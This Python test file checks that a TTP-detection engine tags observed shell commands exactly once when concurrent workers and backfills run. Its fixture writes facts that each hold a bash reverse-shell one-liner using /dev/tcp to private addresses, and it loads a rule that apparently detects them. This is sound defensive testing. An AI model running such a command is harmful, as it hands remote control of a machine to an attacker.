"""The TTP engine under real concurrency (PostgreSQL): consumers in several workers and backfills
running at once over the same facts write each tag, its fact and its events exactly once."""

from __future__ import annotations

import threading
from collections import Counter

import pytest

from stigmem import logtail
from stigmem.fact_input import parse_fact_body
from stigmem.facts import assert_facts
from stigmem.models import Event, Fact, NodeClock
from ttprules import engine
from ttprules.backfill import backfill
from ttprules.models import RuleStats, Tag

from .engine_helpers import REVERSE_SHELL, load_rules

pytestmark = [pytest.mark.postgres, pytest.mark.django_db(transaction=True)]

FACTS_PER_TENANT = 150


@pytest.fixture(autouse=True)
def node_clock():
    # A transactional test starts from emptied tables, the node clock's row included.
    NodeClock.objects.get_or_create(pk=1)


def write_facts(tenant: str) -> None:
    bodies = [
        {
            "entity": f"stigmem://acme/host/h{n}",
            "relation": "observed:command",
            "value": {"type": "string", "v": f"bash -i >& /dev/tcp/10.0.0.{n % 250}/{n} 0>&1"},
            "source": "stigmem://acme/agent/sensor",
        }
        for n in range(FACTS_PER_TENANT)
    ]
    for start in range(0, len(bodies), 50):
        assert_facts(tenant, [parse_fact_body(b) for b in bodies[start : start + 50]])


def ttp_consumer() -> logtail.Consumer:
    return next(c for c in logtail.consumers() if c.name == engine.CONSUMER)


def run_together(*jobs) -> list[BaseException]:
    start = threading.Barrier(len(jobs))
    failures: list[BaseException] = []

    def run(job) -> None:
        from django.db import connection

        try:
            start.wait(10)
            job()
        except BaseException as exc:
            failures.append(exc)
        finally:
            connection.close()

    threads = [threading.Thread(target=run, args=(job,), daemon=True) for job in jobs]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(120)
    assert not any(t.is_alive() for t in threads)
    return failures


def drain() -> None:
    consumer = ttp_consumer()
    idle = 0
    while idle < 3:  # another worker may hold the cursor for a moment
        idle = idle + 1 if logtail.run_batch(consumer) == 0 else 0


def test_concurrent_consumers_and_backfills_write_each_tag_once(tmp_path):
    load_rules(tmp_path / "rules", R1=REVERSE_SHELL)
    write_facts("default")
    write_facts("other")
    observations = Fact.objects.filter(relation="observed:command").count()
    assert observations == 2 * FACTS_PER_TENANT

    failures = run_together(
        drain,
        drain,
        lambda: backfill(batch_size=40),
        lambda: backfill(batch_size=70, tenant="other"),
    )
    assert failures == []
    drain()

    tags = list(Tag.objects.all())
    assert len(tags) == observations
    observed = Fact.objects.filter(relation="observed:command").values_list("id", flat=True)
    assert {t.fact_id for t in tags} == set(observed)
    tagged = Counter(e.payload["id"] for e in Event.objects.filter(topic="ttp.tagged"))
    fired = Counter(e.payload["id"] for e in Event.objects.filter(topic="ttp.rule.fired.T1059"))
    assert tagged == fired == Counter({str(t.id): 1 for t in tags})
    assert Fact.objects.filter(relation="ttp:technique").count() == observations  # one entity per fact
    assert RuleStats.objects.get(rule_id="R1").tags == observations
